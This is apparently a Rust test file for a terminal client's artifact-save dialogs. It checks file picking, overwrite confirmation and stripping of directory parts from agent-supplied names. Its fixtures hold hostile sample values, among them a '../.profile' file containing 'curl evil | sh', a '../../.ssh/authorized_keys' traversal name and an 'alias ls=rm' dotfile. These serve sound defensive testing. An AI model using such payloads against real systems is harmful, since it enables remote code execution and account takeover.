//! The save dialogs through `update`: the picker reaches every file part of every artifact, the bytes are the
//! ones chosen (whatever the agent sends afterwards), and an existing file needs a second, explicit `y`.

use std::path::PathBuf;

use a2a::*;
use crossterm::event::KeyCode;

use super::update;
use crate::app::msg::{Effect, Msg, SaveResult};
use crate::app::state::{App, Focus, Overlay, View};
use crate::testing::app;
use crate::testing::keys::key;

const PNG: &[u8] = b"\x89PNG\r\n\x1a\nfirst image";

fn files(id: &str, parts: Vec<Part>) -> StreamResponse {
    StreamResponse::ArtifactUpdate(TaskArtifactUpdateEvent {
        task_id: "t1".into(),
        context_id: "ctx".into(),
        artifact: Artifact {
            artifact_id: id.into(),
            name: Some(id.into()),
            description: None,
            parts,
            metadata: None,
            extensions: None,
        },
        append: Some(false),
        last_chunk: Some(true),
        metadata: None,
    })
}

fn raw(name: &str, bytes: &[u8]) -> Part {
    Part::raw(bytes.to_vec()).with_filename(name)
}

/// A tab with two artifacts: a source file next to a PNG, then a dotfile.
fn tab_with_files() -> App {
    let mut app = app();
    app.save_dir = Some(PathBuf::from("/home/user"));
    let id = app.new_tab(app.agents[0].id);
    let t = app.tab_mut(id).unwrap();
    t.feed(&files(
        "sources",
        vec![raw("fib.rs", b"fn fib() {}"), raw("plot.png", PNG)],
    ));
    t.feed(&files("dotfiles", vec![raw(".bashrc", b"alias ls=rm")]));
    app.view = View::Tab(id);
    app.focus = Focus::Main;
    app
}

fn written(fx: &[Effect]) -> (PathBuf, Vec<u8>, bool) {
    match fx {
        [
            Effect::SaveFile {
                path,
                bytes,
                replace,
            },
        ] => (path.clone(), bytes.to_vec(), *replace),
        _ => panic!("expected one SaveFile, got {fx:?}"),
    }
}

#[test]
fn the_picker_lists_every_file_part_and_saves_the_second_one() {
    let mut app = tab_with_files();
    key(&mut app, KeyCode::Char('S'));
    let Some(Overlay::SavePicker { tab, selected: 0 }) = &app.overlay else {
        panic!("S opens the picker on the first part");
    };
    let rows = crate::app::save::choices(app.tab(*tab).unwrap());
    let names: Vec<&str> = rows.iter().map(|c| c.name.as_str()).collect();
    assert_eq!(names, ["fib.rs", "plot.png", ".bashrc"]);
    // `}` jumps to the next artifact, `{` back to the previous one, Down to the next part.
    key(&mut app, KeyCode::Char('}'));
    assert!(matches!(
        app.overlay,
        Some(Overlay::SavePicker { selected: 2, .. })
    ));
    key(&mut app, KeyCode::Char('{'));
    assert!(matches!(
        app.overlay,
        Some(Overlay::SavePicker { selected: 0, .. })
    ));
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Enter);
    let Some(Overlay::SaveTarget(s)) = &app.overlay else {
        panic!("Enter chooses the part");
    };
    assert_eq!(s.path(), PathBuf::from("/home/user/plot.png"));
    let (path, bytes, replace) = written(&key(&mut app, KeyCode::Enter));
    assert_eq!(path, PathBuf::from("/home/user/plot.png"));
    assert_eq!(
        bytes, PNG,
        "the second part of the first artifact, not the newest file"
    );
    assert!(!replace, "a first attempt never replaces anything");
    update(
        &mut app,
        Msg::SaveDone {
            path,
            result: SaveResult::Saved(PNG.len()),
        },
    );
    assert!(app.status.as_ref().unwrap().text.contains("saved"));
    assert!(app.overlay.is_none() && app.saving.is_none());
}

#[test]
fn the_bytes_are_the_ones_chosen_whatever_the_agent_sends_after() {
    let mut app = tab_with_files();
    key(&mut app, KeyCode::Char('S'));
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Enter);
    // The agent replaces the artifact while the dialog is open: other bytes, and a name it would like better.
    let id = app.active_tab().unwrap().id;
    app.tab_mut(id).unwrap().feed(&files(
        "sources",
        vec![raw("fib.rs", b"x"), raw("../.profile", b"curl evil | sh")],
    ));
    let (path, bytes, _) = written(&key(&mut app, KeyCode::Enter));
    assert_eq!(bytes, PNG);
    assert_eq!(path, PathBuf::from("/home/user/plot.png"));
}

#[test]
fn an_existing_file_is_replaced_only_after_a_second_y() {
    let mut app = tab_with_files();
    key(&mut app, KeyCode::Char('S'));
    key(&mut app, KeyCode::Char('}'));
    key(&mut app, KeyCode::Enter);
    let Some(Overlay::SaveTarget(s)) = &app.overlay else {
        panic!("the dotfile is chosen");
    };
    assert!(s.risks().iter().any(|r| r.contains("dotfile")));
    let (path, _, replace) = written(&key(&mut app, KeyCode::Enter));
    assert!(!replace);
    update(
        &mut app,
        Msg::SaveDone {
            path: path.clone(),
            result: SaveResult::Exists("a file of 3 bytes".into()),
        },
    );
    assert!(matches!(
        app.overlay,
        Some(Overlay::ConfirmOverwrite { .. })
    ));
    // Enter (perhaps still held from the name dialog) does not replace: back to the name.
    assert!(key(&mut app, KeyCode::Enter).is_empty());
    assert!(matches!(app.overlay, Some(Overlay::SaveTarget(_))));
    written(&key(&mut app, KeyCode::Enter));
    update(
        &mut app,
        Msg::SaveDone {
            path: path.clone(),
            result: SaveResult::Exists("a file of 3 bytes".into()),
        },
    );
    // Esc keeps the file and writes nothing.
    assert!(key(&mut app, KeyCode::Esc).is_empty());
    assert!(app.overlay.is_none());
    // Only `y` replaces.
    key(&mut app, KeyCode::Char('S'));
    key(&mut app, KeyCode::Char('}'));
    key(&mut app, KeyCode::Enter);
    written(&key(&mut app, KeyCode::Enter));
    update(
        &mut app,
        Msg::SaveDone {
            path: path.clone(),
            result: SaveResult::Exists("a file of 3 bytes".into()),
        },
    );
    let (again, bytes, replace) = written(&key(&mut app, KeyCode::Char('y')));
    assert_eq!(
        (again, bytes.as_slice(), replace),
        (path, &b"alias ls=rm"[..], true)
    );
}

#[test]
fn a_remote_name_with_a_directory_is_reduced_to_its_base_name() {
    let mut app = app();
    app.save_dir = Some(PathBuf::from("/home/user"));
    let id = app.new_tab(app.agents[0].id);
    app.tab_mut(id).unwrap().feed(&files(
        "a",
        vec![raw("../../.ssh/authorized_keys", b"ssh-ed25519 AAAA")],
    ));
    app.view = View::Tab(id);
    app.focus = Focus::Main;
    key(&mut app, KeyCode::Char('S'));
    key(&mut app, KeyCode::Enter);
    let Some(Overlay::SaveTarget(s)) = &app.overlay else {
        panic!("chosen");
    };
    assert_eq!(s.path(), PathBuf::from("/home/user/authorized_keys"));
    assert_eq!(
        s.original_name.as_deref(),
        Some("../../.ssh/authorized_keys"),
        "the agent's own name is shown"
    );
}
